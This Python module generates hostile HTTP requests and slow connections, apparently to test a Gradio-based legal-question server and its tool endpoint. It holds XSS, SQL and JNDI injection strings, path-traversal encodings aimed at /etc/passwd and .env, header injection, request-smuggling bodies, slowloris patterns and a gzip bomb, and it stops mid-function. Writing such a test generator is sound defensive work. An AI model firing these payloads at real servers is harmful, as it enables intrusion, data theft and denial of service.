"""Generate hostile requests from a seeded source of randomness; nothing here opens a socket.

`generate_requests` yields as many requests as wanted, of all kinds mixed. `slow_connections` returns connections that
take their time. The same seed gives the same requests, given the same numbers from the server (`Target`).
"""

import gzip
import json
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import cache, partial
from random import Random
from typing import Any

Headers = Sequence[tuple[bytes, bytes]]

ATTACKER_HOST = "evil.example"
"""The attacker's host; no response may redirect there."""

SCRIPT = "<script>window.hacked=1</script>"

_HEADER_LIMIT = 30_000
"""Bytes of a header that the server always reads; with more it may close before everything was sent."""

_BODY_LIMIT = 128 * 1024


@dataclass(frozen=True, slots=True)
class Target:
    """What an attacker knows of a server: paths of files, the page's events, and a host that it must not call."""

    files: tuple[str, ...]
    events: tuple[tuple[int, int], ...]
    """Gradio's number of each event that runs on the server, and how many values it takes."""
    entries: tuple[str, ...]
    outside: str


@dataclass(frozen=True, slots=True)
class HostileRequest:
    """A request, byte for byte.

    If `must_be_answered`, a missing response is a fault; if `may_be_several`, more than one response may come.
    `follow_up` is sent on a connection of its own if the request has succeeded.
    """

    kind: str
    data: bytes
    must_be_answered: bool = True
    may_be_several: bool = False
    follow_up: bytes = b""


@dataclass(frozen=True, slots=True)
class SlowConnection:
    """A connection that sends `first` at once, then the bytes of `dribble`, one every `pause` seconds, over and over.

    The server must have closed it after `limit` seconds. If `dribbles_once`, only one byte is sent later; if
    `reads_response`, the client reads what comes; if `half_closes`, the client closes its half.
    """

    kind: str
    first: bytes
    limit: float
    dribble: bytes = b""
    pause: float = 1.0
    dribbles_once: bool = False
    reads_response: bool = True
    half_closes: bool = False


def request(
    method: bytes | str,
    path: bytes | str,
    headers: Headers = (),
    body: bytes | None = None,
    host: bytes | None = b"127.0.0.1",
    version: bytes = b"HTTP/1.1",
) -> bytes:
    """Build the bytes of a request; the connection is closed after its response."""
    begin = (
        b" ".join(part if isinstance(part, bytes) else _encode_loosely(part) for part in (method, path))
        + b" "
        + version
    )
    lines = [begin, *([b"Host: " + host] if host is not None else []), b"Connection: close"]
    lines += [name + b": " + value for name, value in headers]
    if body is not None:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + (body or b"")


def generate_requests(seed: int, count: int, target: Target) -> Iterator[HostileRequest]:
    """Yield so many hostile requests, of all kinds."""
    random = Random(seed)
    kinds, weights = zip(*_KINDS.items(), strict=True)
    for kind in random.choices(kinds, weights, k=count):
        yield kind(random, target)


def slow_connections(target: Target, asset: str) -> list[SlowConnection]:
    """Return connections that the server must close by itself; `asset` is the path of a large file of the page."""
    head = b"POST /api/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    body = head + b"Content-Length: 100000\r\n\r\n"
    chunked = head + b"Transfer-Encoding: chunked\r\n\r\n"
    answered = b"POST /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\n"
    keep_alive = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    greedy = b"GET %b HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % asset.encode()
    header_limit, request_limit = 10.0, 30.0
    return [
        SlowConnection("never sends", b"", header_limit),
        SlowConnection("header stops", head, header_limit),
        SlowConnection("header a byte at a time", b"", header_limit, head + b"X-" + b"x" * 1000, 0.5),
        SlowConnection("endless headers", head, header_limit, b"a: b\r\n", 0.05),
        SlowConnection("blank lines", b"", header_limit, b"\r\n", 0.5),
        SlowConnection("body never comes", body, request_limit),
        SlowConnection("body stops", body + b'{"question": "', request_limit),
        SlowConnection("body a byte at a time", body, request_limit, b" ", 0.5),
        SlowConnection(
            "body waits to be asked for", head + b"Expect: 100-continue\r\nContent-Length: 9\r\n\r\n", request_limit
        ),
        SlowConnection("chunk stops", chunked + b"1000\r\nx", request_limit),
        SlowConnection("chunks a byte at a time", chunked, request_limit, b"1\r\nx\r\n", 0.3),
        SlowConnection("chunk size without end", chunked, request_limit, b"0", 0.5),
        SlowConnection(
            "body of a page's event stops", body.replace(b"/api/ask", b"/gradio_api/queue/join") + b"{", request_limit
        ),
        SlowConnection("body after its answer", answered, request_limit, b" ", 2.0),
        SlowConnection("a letter after its answer", answered, request_limit, b" ", dribbles_once=True),
        SlowConnection("nonsense after its answer", chunked.replace(b"/api/ask", b"/healthz"), request_limit, b"z\r\n"),
        SlowConnection("body after its answer stops", answered + b" ", request_limit),
        SlowConnection("second header stops", keep_alive + b"GET /", header_limit),
        SlowConnection(
            "second header a byte at a time", keep_alive, header_limit, b"GET / HTTP/1.1\r\nX-" + b"x" * 1000, 0.5
        ),
        SlowConnection("nothing after an answer", keep_alive, header_limit),
        SlowConnection("never reads", greedy * 200, request_limit, reads_response=False),
        SlowConnection(
            "never reads entries",
            greedy.replace(asset.encode(), b"/api/entries") * 400,
            request_limit,
            reads_response=False,
        ),
        # It is answered until the buffers between client and server are full; only then does the server wait.
        SlowConnection("never reads and sends on", greedy, 4 * request_limit, greedy, 0.01, reads_response=False),
        SlowConnection("closes half in the header", head, header_limit, half_closes=True),
        SlowConnection("closes half in the body", body + b"{", header_limit, half_closes=True),
        SlowConnection("closes half after a request", keep_alive, header_limit, half_closes=True),
        SlowConnection(
            "a stream that nobody fills", request("GET", "/gradio_api/queue/data?session_hash=slow"), header_limit
        ),
        SlowConnection("event stream of the tools", request("GET", "/mcp", _EVENT_STREAM), request_limit),
        SlowConnection("file that waits", request("GET", f"/gradio_api/file={target.files[0]}")[:-2], header_limit),
    ]


_JSON = ((b"Content-Type", b"application/json"),)
_TOOLS = (*_JSON, (b"Accept", b"application/json, text/event-stream"))
_EVENT_STREAM = ((b"Accept", b"text/event-stream"),)


def _words(table: str) -> list[str]:
    return table.split()


# --- texts -----------------------------------------------------------------------------------------------------------

_TEXTS = (
    SCRIPT,
    "<img src=x onerror='window.hacked=1'>",
    "javascript:window.hacked=1",
    f"![x](https://{ATTACKER_HOST}/p.png) [y](https://{ATTACKER_HOST})",
    "' OR 1=1; DROP TABLE feedback; --",
    "{0.__class__.__init__.__globals__} %s %n {{7*7}} ${jndi:ldap://" + ATTACKER_HOST + "/a}",
    "__i18n__{'key': 'title'}",
    "\u202e\u2066which law\u2069\u202d",
    "\ufdfa" * 1000,
    "e" + "\u0301" * 2000,
    "\ud800",
    "law \udfff\ud800?",
    "\x00which law\x00",
    "\x1b[2J\x07\x08\r\n\r\nSet-Cookie: x-hacked=1",
    "👩‍👩‍👧‍👦" * 200,
    "\u200b\u200d\ufeff\u2060",
    "١٢٣ ٤٥٦ Ⅷ ½ ﬁ ß İ",
    "ﷺ ﷽ 𒐫 ꧅ ⸻",
    "",
    " \t\n\v\f\u2028\u2029\u00a0",
    "?" * 2000,
    "law " * 500,
    "x" * 2000,
    "x" * 2001,
    "x" * 20_001,
    "Which law protects personal data?",
    "¿Qué ley protege los datos personales?",
    "peru-2022",
    "peru-2022/38-39",
    "None",
    "NaN",
    "-1",
    "1e999",
)


def text(random: Random, target: Target) -> str:
    """Return a text that hardly anybody types."""
    draw = random.random()
    if draw < 0.6:
        return random.choice(_TEXTS)
    if draw < 0.7:
        return random.choice(target.files)
    if draw < 0.8:
        return " ".join(random.choices(("which", "law", "qué", "\u0000", "ley", "🏛", "\ud800", "\u202e", "2022"), k=30))
    blocks = ((0, 0x7F), (0x80, 0x2FF), (0x300, 0x36F), (0x590, 0x6FF), (0x2000, 0x206F), (0xD800, 0x10FFFF))
    ranges = random.choices(blocks, k=random.randint(1, 300))
    return "".join(chr(random.randint(*bounds)) for bounds in ranges)


def file_object(random: Random, target: Target) -> dict[str, Any]:
    """Return an object that represents a file in Gradio's events, in current or former versions."""
    path, outside = random.choice(target.files), f"http://{target.outside}/"
    meta = {"_type": "gradio.FileData"}
    objects: tuple[dict[str, Any], ...] = (
        {"path": path, "meta": meta},
        {"path": path, "url": outside, "orig_name": "a", "meta": meta},
        {"path": path, "url": f"/gradio_api/file={path}", "is_stream": True, "meta": meta},
        {"path": outside, "meta": meta},
        {"url": f"file://{path}", "is_file": True, "data": None, "name": path},
    )
    return random.choice(objects)


def value(random: Random, target: Target, depth: int = 0) -> Any:
    """Return a value of any type."""
    path = random.choice(target.files)
    simple: tuple[Any, ...] = (
        text(random, target),
        *(None, True, False, 0, -1, 1.5, 2**31, -(2**63), 10**400, float("nan"), float("inf"), -1e308),
        *([], {}, [[]], ["x"] * 1000, "x" * 60_000),
        file_object(random, target),
        {"__type__": "update", "value": path, "visible": True},
        {"__proto__": {"hacked": 1}, "constructor": {"prototype": {"hacked": 1}}},
        {"role": "system", "content": text(random, target)},
        [{"role": "user", "content": {"path": path}}],
        [{"role": "assistant", "content": {"file": {"path": path}, "type": "file"}, "metadata": {"title": SCRIPT}}],
        {"video": {"path": path}, "image": path, "files": [path]},
        "data:text/plain;base64,AAAA",
    )
    if depth < 3 and random.random() < 0.2:
        inner = [value(random, target, depth + 1) for _ in range(random.randint(1, 4))]
        return inner if random.random() < 0.5 else {text(random, target)[:50]: item for item in inner}
    return random.choice(simple)


# --- bodies ----------------------------------------------------------------------------------------------------------


@cache
def _bomb() -> bytes:
    return gzip.compress(bytes(50 * 1024 * 1024))


def encode(random: Random, record: object) -> bytes:
    """Encode a record as JSON, sometimes as invalid JSON."""
    body = json.dumps(record, ensure_ascii=random.random() < 0.5).encode("utf-8", "surrogatepass")
    mutations: tuple[Callable[[], bytes], ...] = (
        lambda: body.replace(b"{", b'{"question": 1, "question": "twice", "id": 1, "id": 2, ', 1),
        lambda: body[: random.randint(0, len(body))],
        lambda: body.decode("utf-8", "replace").encode(random.choice(("utf-16", "utf-16-le", "utf-32", "utf-7"))),
        lambda: b"\xef\xbb\xbf" + body,
        lambda: body.replace(b'"', b'"\xff\xfe\xc0\xaf', 1),
        lambda: body.replace(b" ", b"\x00"),
        lambda: b"[" * 10_000 + b"]" * 10_000,
        lambda: b'{"question":' * 5_000 + b"1" + b"}" * 5_000,
        lambda: b'{"question": ' + b"[" * 10_000,
        lambda: body.replace(b"1", b"9" * 5_000, 1),
        lambda: b'{"question": ' + b"1" * 100_000 + b"}",
        lambda: b'{"question": 1e99999, "k": -0.0e-99999}',
        lambda: b'{"question": "\\ud800\\u0000\\udc00"}',
        lambda: b'{"question": "\\x", \'k\': 1,}',
        lambda: body + b"\n" + body,
        lambda: _bomb()[: _BODY_LIMIT - 1],
        lambda: random.randbytes(random.randint(0, 2_000)),
        lambda: b"",
    )
    return random.choice(mutations)() if random.random() < 0.4 else body


def _ask_request(random: Random, target: Target) -> HostileRequest:
    any_value, any_text = partial(value, random, target), partial(text, random, target)
    record: dict[str, Any] = {"question": any_text() if random.random() < 0.6 else any_value()}
    if random.random() < 0.3:
        roles = ("user", "assistant", "system", "tool", "developer", "", "USER", "\ud800", 1, None)
        turns = [{"role": random.choice(roles), "content": any_text()} for _ in range(random.choice((1, 2, 100, 101)))]
        record["history"] = random.choice((turns, any_value()))
    if random.random() < 0.3:
        record["edition"] = random.choice(("peru-2022", "peru-1999", "../..", any_value()))
    if random.random() < 0.3:
        record[random.choice(("k", "__proto__", "constructor", "threshold", "fn_index", any_text()[:20]))] = any_value()
    return _post("api/ask", "/api/ask", encode(random, record), _content_headers(random))


def _content_headers(random: Random) -> Headers:
    """Return headers that declare a body as JSON, or as something else."""
    if random.random() < 0.7:
        return _JSON
    types = (
        *(b"", b"text/plain", b"application/json; charset=utf-7", b"application/json; charset=utf-16", b"a/b/c; ;=;"),
        *(
            b"multipart/form-data",
            b"multipart/form-data; boundary=" + b"x" * 5000,
            b"application/x-www-form-urlencoded",
        ),
        *(b"application/xml", b"application/problem+json", b"application/json, text/html", b"\xff/\xfe", b"*/*"),
    )
    codings = (b"gzip", b"deflate", b"br", b"zstd", b"gzip, gzip", b"x")
    coding = ((b"Content-Encoding", random.choice(codings)),) if random.random() < 0.5 else ()
    return ((b"Content-Type", random.choice(types)), *coding)


def _post(kind: str, path: str, body: bytes, headers: Headers, **facts: Any) -> HostileRequest:
    return HostileRequest(
        kind, request("POST", path, headers, body), must_be_answered=len(body) <= _BODY_LIMIT, **facts
    )


def _search_request(random: Random, target: Target) -> HostileRequest:
    ks = ("0", "-1", "51", "1e3", "NaN", "9" * 5000, "", "true", "1.0", "٣", "0x10", "1_0", "%00", "[]")
    parts = [f"q={_quote(random, text(random, target))}"]
    if random.random() < 0.5:
        parts.append(f"k={random.choice(ks)}")
    if random.random() < 0.3:
        parts.append(f"edition={_quote(random, text(random, target))}")
    if random.random() < 0.3:
        parts.append(
            random.choice(("q=1&q=2", "q[]=1", "q[__proto__]=1", "k=1&k=2", "&&&;=;", "q", "%", "q=%zz%", "?"))
        )
    random.shuffle(parts)
    path = "/api/search?" + "&".join(parts)
    return HostileRequest("api/search", request("GET", path), must_be_answered=len(path) < _HEADER_LIMIT)


def _entry_request(random: Random, target: Target) -> HostileRequest:
    name = random.choice(
        (
            _quote(random, text(random, target)),
            f"{random.choice(target.entries)}{random.choice(('', '/', '%00', '.json', '/..', '%2F', ';', '?x', '#'))}",
            _traversal(random, target),
        )
    )
    tags = (b"*", b'"x"', b"W/*", b'"' + b"x" * 5000, b",,,,", b"\xff", b'W/"", *, "', b"")
    headers = ((b"If-None-Match", random.choice(tags)),) if random.random() < 0.5 else ()
    path = f"/api/entries/{name}"
    return HostileRequest("api/entries", request("GET", path, headers), must_be_answered=len(path) < _HEADER_LIMIT)


def _tool_request(random: Random, target: Target) -> HostileRequest:
    any_value = partial(value, random, target)
    methods = (
        *("initialize", "tools/list", "tools/call", "tools/call", "tools/call", "tools/call", "ping", "rpc.discover"),
        *("resources/list", "resources/read", "resources/subscribe", "resources/templates/list", "prompts/get"),
        *("prompts/list", "logging/setLevel", "completion/complete", "sampling/createMessage", "roots/list", "", "💥"),
        *("notifications/initialized", "notifications/cancelled", "notifications/progress", "__init__", "tools/CALL"),
    )
    tools: dict[str, dict[str, Any]] = {
        "ask_peru_digital_government": {
            "question": random.choice((text(random, target), any_value())),
            "earlier_questions": random.choice(([], [text(random, target)] * random.choice((1, 101)), any_value())),
        },
        "search_questionnaire": {"query": text(random, target), "count": random.choice((5, 0, 21, "5", any_value()))},
        "read_entry": {"id": random.choice((text(random, target), *target.files, any_value()))},
        "../read_entry": {},
        "": {},
    }
    tool, arguments = random.choice(list(tools.items()))
    params: dict[str, Any] = {
        "tools/call": {"name": tool, "arguments": arguments if random.random() < 0.8 else any_value()},
        "resources/read": {"uri": f"file://{random.choice(target.files)}"},
        "initialize": {"protocolVersion": random.choice(("2025-06-18", "1999-01-01", 1)), "capabilities": any_value()},
    }
    method = random.choice(methods)
    record: dict[str, Any] = {
        "jsonrpc": "2.0" if random.random() < 0.9 else any_value(),
        "id": random.choice((1, 1, 1, 0, -1, 10**30, "x" * 5000, "\ud800", None, 1.5, [], {})),
        "method": method if random.random() < 0.95 else any_value(),
        "params": params.get(method, {}) if random.random() < 0.8 else any_value(),
    }
    for name in list(record):
        if random.random() < 0.05:
            del record[name]
    batch: object = [record] * random.choice((0, 1, 50)) if random.random() < 0.1 else record
    accepts = (b"application/json", b"text/event-stream", b"*/*", b"", b"text/html", b"\xff")
    headers = (
        list(_TOOLS) if random.random() < 0.8 else [*_content_headers(random), (b"Accept", random.choice(accepts))]
    )
    odd = (
        (b"Mcp-Session-Id", random.choice((b"x", b"../../etc", b"\xff", b"y" * 5000))),
        (b"Mcp-Protocol-Version", random.choice((b"1999-01-01", b"2025-06-18", b"\xff", b"DROP"))),
        (b"Last-Event-ID", b"-1"),
        (b"Origin", f"http://{ATTACKER_HOST}".encode()),
    )
    headers += random.sample(odd, random.choice((0, 0, 1, 2)))
    return _post("mcp", "/mcp", encode(random, batch), headers)


# --- paths -----------------------------------------------------------------------------------------------------------

_GRADIO = (
    *_words(
        """
        user login_check token app_id dev/reload login logout runs run-history/connect run-history/buckets
        run-history/records run-history/records/a/b/assets/c gradio_api/deep_link info openapi.json config
        proxy={url} file={file} file/{file} stream/x stream/x/close stream/x/1/2/playlist.m3u8 stream/x/1/2/3.ts
        stream/x/1/2/playlist-file reset reset/ heartbeat/x run/ask run/predict api/predict api/{event} call/ask
        call/v2/ask call/ask/x queue/join queue/data queue/status cancel component_server component_server/ upload
        mcp/ upload_progress?upload_id=x startup-events theme.css robots.txt pwa_icon pwa_icon/{file} manifest.json
        monitoring monitoring/summary monitoring/x process_recording vibe-edit/ vibe-edit undo-vibe-edit/ vibe-code/
        vibe-code vibe-starter-queries/ profiling/traces profiling/summary profiling/clear svelte/{file}
        static/{file} assets/{file} mcp/sse mcp/http custom_component/1/client/component/{file}
        custom_component/{event}/server/component/style.css static/js/../../{file} assets/../{file}
        favicon.ico/{file} page/{file} docs redoc sse
        """
    ),
)


def _traversal(random: Random, target: Target) -> str:
    """Return a file's path in one of the many forms that pass a careless check."""
    path = random.choice(target.files)
    up = random.choice(
        (
            *("../", "%2e%2e%2f", "%252e%252e%252f", "..%2f", "%2e%2e/", "..%5c", "..\\", "....//", "..;/", ".%00./"),
            *("%c0%ae%c0%ae%c0%af", "%e0%80%ae%e0%80%ae/", "%uff0e%uff0e/", "..%c0%af", "..%ef%bc%8f", "%25%32%65" * 2),
            *("./././", "//", "/./", "%2f", "%5c%5c", "..%00/", "..%0d%0a/", "﹒﹒/", "‥/"),
        )
    )
    ends = ("", "", "", "%00", "%00.js", "\x00.css", "?", "#", "/", "/.", ";.js", "%20", "::$DATA", "~")
    begins = (
        path,
        up * random.randint(1, 12) + path.lstrip("/"),
        "/" + path,
        f"file://{path}",
        f"\\\\{ATTACKER_HOST}\\share",
    )
    return random.choice(begins) + random.choice(ends)


def _path_request(random: Random, target: Target) -> HostileRequest:
    draw = random.random()
    if draw < 0.5:
        route = random.choice(_GRADIO).format(
            file=_traversal(random, target),
            event=random.choice(target.events)[0],
            url=random.choice(("http://", "https://", "", "ftp://", "//", "https:/")) + f"{target.outside}/x",
        )
        path = random.choice(
            ("/", "/gradio_api/", "//gradio_api/", "/gradio_api//", "/./gradio_api/", "/%67radio_api/")
        )
        return _get(random, target, "Gradio's path", path + route)
    if draw < 0.8:
        prefix = random.choice(
            ("", "/", "/assets/", "/static/", "/page/", "/api/", "/api/entries", "/gradio_api/", "/theme.css/", "/mcp/")
        )
        path = prefix + _traversal(random, target)
        return _get(random, target, "path to a file", path if path.startswith("/") else f"/{path}")
    return _odd_path_request(random, target)


def _get(random: Random, target: Target, kind: str, path: str) -> HostileRequest:
    method = random.choice(("GET", "GET", "GET", "HEAD", "POST"))
    body = encode(random, value(random, target)) if method == "POST" else None
    raw = request(method, path, _content_headers(random) if body is not None else (), body)
    return HostileRequest(kind, raw, must_be_answered=len(path) < _HEADER_LIMIT and len(body or b"") <= _BODY_LIMIT)


def _odd_path_request(random: Random, target: Target) -> HostileRequest:
    paths: tuple[bytes | str, ...] = (
        *(
            "*",
            f"//{ATTACKER_HOST}/",
            f"///{ATTACKER_HOST}/%2f..",
            f"/\\{ATTACKER_HOST}",
            f"http://{ATTACKER_HOST}/",
            f"https://{ATTACKER_HOST}/api/ask",
            ATTACKER_HOST,
        ),
        *(
            f"http://{target.outside}/",
            f"{ATTACKER_HOST}:443",
            "127.0.0.1:22",
            "/%",
            "/%zz",
            "/%c3%28",
            "/%00",
            "/%0d%0aX-Hacked:1",
        ),
        *(
            "/%f0%9f%92%a5",
            "/💥",
            b"/\xff\xfe",
            b"/\x00",
            b"/\x7f",
            b"/a b",
            b"/\t",
            "",
            "?",
            "#",
            "/?",
            "/#/",
            "/;",
            "/.",
        ),
        *(
            "/..",
            "/../",
            "/api",
            "/api/",
            "/api/ask/",
            "/API/ASK",
            "/api//ask",
            "/api/./ask",
            "/api/ask;x=1",
            "/healthz/",
        ),
        *("/metrics/", "/metrics%00", "/.git/config", "/.env", "/secret.txt", "/proc/self/environ", "/@fs/etc/passwd"),
        *("/" + "a" * 20_000, "/" + "%41" * 9_000, "/" + "/" * 20_000, "/" + "../" * 6_000, "/?" + "q=x&" * 6_000),
        *(
            "/?" + "%00" * 3_000,
            f"/?q={SCRIPT}",
            f"/api/docs?{SCRIPT}",
            f"/?__theme={SCRIPT}",
            "/?view=api",
            "/" + "a" * 60_000,
        ),
        *(f"/?logs=container&__sign={SCRIPT}", f"/?deep_link={target.files[0]}", "/config?x=%ff", "/gradio_api/info?%"),
        *(
            "/assets/" + "a" * 250,
            "/assets/" + "a" * 300,
            "/assets/.",
            "/assets/..",
            "/assets/index.html",
            "/assets/a.js",
        ),
        "/static/js/iframeResizer.contentWindow.min.js",
    )
    path = random.choice(paths)
    return HostileRequest("odd path", request("GET", path), must_be_answered=len(path) < _HEADER_LIMIT)


# --- methods, headers, framing ---------------------------------------------------------------------------------------

_METHODS = (
    *_words(
        """
        GET HEAD POST PUT DELETE PATCH OPTIONS TRACE CONNECT PROPFIND MKCOL SEARCH QUERY PURGE DEBUG LOCK FOO get
        Post 💥
        """
    ),
    "x" * 5000,
    "",
    "G\x00T",
    "G T",
    "GET\t",
    "\r\nGET",
)
_PATHS = (
    *_words(
        """
        / /api/ask /api/search /api/search?q=law /api/entries /api/entries/peru-2022/38-39 /healthz /readyz /metrics
        /mcp /config /gradio_api/info /gradio_api/queue/join /gradio_api/queue/data /api/docs /api/openapi.json
        /theme.css /favicon.ico /nowhere
        """
    ),
)


def _method_request(random: Random, target: Target) -> HostileRequest:
    body = encode(random, value(random, target)) if random.random() < 0.3 else None
    method, path = random.choice(_METHODS), random.choice(_PATHS)
    raw = request(method, path, _content_headers(random) if body is not None else (), body)
    return HostileRequest("method", raw, must_be_answered=len(body or b"") <= _BODY_LIMIT)


def _header_request(random: Random, target: Target) -> HostileRequest:
    method, path = "GET", random.choice(_PATHS)
    hosts = _hosts(target)
    if random.random() < 0.3:
        host = random.choice((None, *hosts))
        more = ((b"Host", random.choice(hosts)),) if random.random() < 0.3 else ()
        return HostileRequest("host", request(method, path, more, host=host))
    if random.random() < 0.1:
        many = random.choice(
            ([(b"X-%d" % n, b"y") for n in range(3_000)], [(b"X", b"y" * 40_000)], [(b"a", b"")] * 5_000)
        )
        return HostileRequest("many headers", request(method, path, many), must_be_answered=False)
    headers = [(name, random.choice(values)) for name, values in random.sample(_headers(target), random.randint(1, 4))]
    return HostileRequest("headers", request(method, path, headers))


@cache
def _hosts(target: Target) -> tuple[bytes, ...]:
    return (
        *(
            ATTACKER_HOST.encode(),
            SCRIPT.encode(),
            b"a.example, b.example",
            b"[::1]",
            b"[::1",
            b"[::1]]:1",
            b"[fe80::1%25eth0]",
            b"",
        ),
        *(b"127.0.0.1:99999", b"127.0.0.1:port", b"x@y", b"x/../y", b"x?y#z", b"\xf0\x9f\x92\xa5", b"a" * 5000, b"."),
        *(
            b"127.0.0.1\tx",
            b"evil.example\x0bX-Hacked: 1",
            b"xn--\xff",
            b"%0d%0aX-Hacked:1",
            b"javascript:1",
            b"{root}",
        ),
        target.outside.encode(),
    )


@cache
def _headers(target: Target) -> list[tuple[bytes, tuple[bytes, ...]]]:
    junk = (b"", b"\xff\xfe", b"\xf0\x9f\x92\xa5", b"x" * 5000, b",,,;;;===", SCRIPT.encode(), b"\x01", b"\x00", b"-1")
    clients = (b"1.1.1.1", b"::1, 127.0.0.1", b"unknown", b"[::1]:99999", b"127.0.0.1", b"1.1.1.1," * 500, *junk)
    hosts = (*_hosts(target), *junk)
    return [
        (b"X-Forwarded-Host", hosts),
        (b"X-Forwarded-For", clients),
        (b"X-Forwarded-Proto", (b"https", b"javascript", b"http,https", *junk)),
        (b"X-Forwarded-Prefix", (b"/../..", f"//{ATTACKER_HOST}".encode(), *junk)),
        (b"X-Forwarded-Port", (b"0", b"99999999", *junk)),
        (b"Forwarded", (b"for=127.0.0.1;host=evil.example;proto=https", b'for="[::1]"', *junk)),
        (b"X-Real-IP", clients),
        (b"X-Original-URL", (b"/metrics", b"/gradio_api/file=/etc/passwd", *junk)),
        (b"X-Rewrite-URL", (b"/metrics", *junk)),
        (b"X-Gradio-Server", (f"http://{target.outside}/".encode(), *junk)),
        (b"X-Gradio-User", (b"api", b"app", *junk)),
        (b"X-Direct-Url", (f"http://{target.outside}/".encode(), *junk)),
        (b"X-HTTP-Method-Override", (b"DELETE", *junk)),
        (b"X-Request-ID", (b"x-hacked\r\n y: 1", b"12345678", *junk)),
        (b"Expect", (b"100-continue", b"200-ok", *junk)),
        (b"Upgrade", (b"websocket", b"h2c", b"TLS/1.3, HTTP/2", *junk)),
        (b"Connection", (b"Upgrade", b"keep-alive, Upgrade", b"close, Host", b"X-Forwarded-For", *junk)),
        (b"Sec-WebSocket-Key", (b"dGhlIHNhbXBsZSBub25jZQ==", *junk)),
        (b"Sec-WebSocket-Version", (b"13", *junk)),
        (b"Accept-Encoding", (b"gzip;q=NaN", b"gzip", b"identity;q=0, *;q=0", b"br, zstd", b"gzip," * 800, *junk)),
        (b"Accept", (b"text/html", b"text/html;q=NaN", b"*/*;q=-1", b"text/event-stream", b"text/html," * 500, *junk)),
        (b"Accept-Language", (b"es", b"../../etc/passwd", b"qu-PE;q=x", b"*", *junk)),
        (b"Range", (b"bytes=0-", b"bytes=-1", b"bytes=9-1", b"bytes=" + b"0-1," * 1000, b"lines=1-2", *junk)),
        (b"If-None-Match", (b"*", b'W/"x"', *junk)),
        (b"If-Modified-Since", (b"Thu, 99 Foo 9999 99:99:99 GMT", *junk)),
        (b"If-Range", (b"*", *junk)),
        (b"Origin", (f"http://{ATTACKER_HOST}".encode(), b"null", b"file://", *junk)),
        (b"Referer", (f"http://{ATTACKER_HOST}/{SCRIPT}".encode(), *junk)),
        (
            b"Cookie",
            (b"access-token=x; access-token-unsecure=../..", b"=;=;=", b"a=" + b"b" * 5000, b"a;" * 900, *junk),
        ),
        (b"Authorization", (b"Basic AAAA", b"Bearer x.y.z", b"Basic \xff", b"Negotiate", *junk)),
        (b"Access-Control-Request-Method", (b"POST", *junk)),
        (b"Access-Control-Request-Private-Network", (b"true", *junk)),
        (b"Content-Type", (b"multipart/form-data", b"multipart/form-data; boundary=", *junk)),
        (b"TE", (b"trailers, chunked", *junk)),
        (b"Via", junk),
        (b"Max-Forwards", (b"0", *junk)),
        (b"Host ", (b"space.before.colon",)),
        (b"X:Y", junk),
        (b" folded", (b"line",)),
        (b"", (b"nameless",)),
        (b"\xf0\x9f\x92\xa5", junk),
        (b"X-Script" + SCRIPT.encode(), junk),
    ]


def _framing_request(random: Random, target: Target) -> HostileRequest:
    """Return a body whose length is declared wrongly, twice or not at all."""
    path = random.choice((b"/api/ask", b"/mcp", b"/gradio_api/queue/join", b"/healthz", b"/nowhere"))
    begin = b"POST " + path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    ask = b'{"question": "Which law protects personal data?"}'
    hidden = b"GET /gradio_api/file=" + target.files[0].encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    chunked = b"Transfer-Encoding: chunked\r\n\r\n"
    lengths = (
        b"-1",
        b"+5",
        b"0x5",
        b"5, 6",
        b"5,5",
        b"9" * 30,
        b"1e3",
        b" ",
        b"\xd9\xa3",
        b"5 5",
        b"\x00",
        b"00000000005",
    )
    refused = [b"Content-Length: %b\r\n\r\nhello" % length for length in lengths] + [
        b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
        b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        chunked + b"zz\r\nhello\r\n0\r\n\r\n",
        chunked + b"-5\r\nhello\r\n0\r\n\r\n",
        chunked + b"ffffffffffffffffffffff\r\nhello\r\n0\r\n\r\n",
        chunked + b"5;" + b"x" * 40_000 + b"\r\nhello\r\n0\r\n\r\n",
        chunked + b"5\r\nhelloXX0\r\n\r\n",
    ]
    several = [
        b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
        b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(ask), ask) + hidden,
        b"Transfer-Encoding:\x0bchunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n" + hidden,
        chunked
        + b"%x\r\n%b\r\n0\r\nContent-Length: 9\r\nHost: %b\r\n\r\n" % (len(ask), ask, ATTACKER_HOST.encode())
        + hidden,
        b"Content-Length: %d\r\n\r\n%b" % (len(ask), ask) + hidden * 20,
        b"Content-Length: 2\r\n\r\n{}" + b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 5,
    ]
    nonsense = [
        *(
            b"\r\n\r\n\r\nGET / HTTP/1.1\r\n\r\n",
            b"GET /\r\n\r\n",
            b"GET / HTTP/9.9\r\nHost: x\r\n\r\n",
            b"\x16\x03\x01\x02\x00\x01",
        ),
        *(
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            b"SSH-2.0-x\r\n",
            b"GET / HTTP/1.1\nHost: x\n\n",
            b"GET / HTTP/1.0\r\n\r\n",
        ),
        *(
            b"\x00" * 100,
            b"GET / HTTP/1.1\rHost: x\r\r",
            b"GET  /  HTTP/1.1\r\n\r\n",
            b"GET / http/1.1\r\n\r\n",
            b"{}\r\n\r\n",
        ),
        *(
            b"GET / HTTP/1.1\r\n: x\r\n\r\n",
            b"GET / HTTP/1.1\r\n\r\nGET",
            b"POST / HTTP/1.1\r\nHost",
            random.randbytes(500),
        ),
    ]
    draw = random.random()
    if draw < 0.4:
